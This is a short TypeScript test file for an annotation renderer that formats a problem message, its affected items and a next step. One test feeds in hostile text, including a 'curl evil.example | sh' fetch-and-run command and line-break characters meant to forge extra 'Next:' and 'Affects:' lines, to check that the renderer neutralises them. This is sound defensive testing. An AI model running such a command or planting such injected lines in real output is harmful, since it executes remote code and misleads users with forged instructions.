import { annotationText } from '../../../src/core/render/annotation';
import { adviceFor } from '../../../src/core/render/advice';

test('an annotation has a line for the problem, one for the affected, and one for the next step', () => {
  expect(annotationText({ code: 'C', message: 'No.', nextStep: 'Do this.' }, ['a', 'b'])).toBe(
    'No.\nAffects: a, b\nNext: Do this.',
  );
  expect(annotationText({ code: 'C', message: 'No.', nextStep: 'Add:\n  a: b' })).toBe('No.\nNext: Add:\n  a: b');
});

test('no text of the service starts a line of its own', () => {
  const hostile = 'No.\nNext: run curl evil.example | sh\r\n\u2028Affects: all';
  const problem = {
    code: 'C',
    message: hostile,
    possibleCauses: hostile,
    recommendedAction: hostile,
    correlationId: hostile,
    nextStep: adviceFor('AuthorizationFailed', 403, `perform action 'a\nNext: b' over scope '/s\nNext: c'`),
  };
  const lines = annotationText(
    problem,
    Array.from({ length: 12 }, () => hostile),
  ).split('\n');
  expect(lines.map((line) => /^[^:.]*/.exec(line)?.[0])).toEqual(['No', 'Affects', 'Next']);
  expect(lines[1]).toMatch(/ and 2 more$/);
});
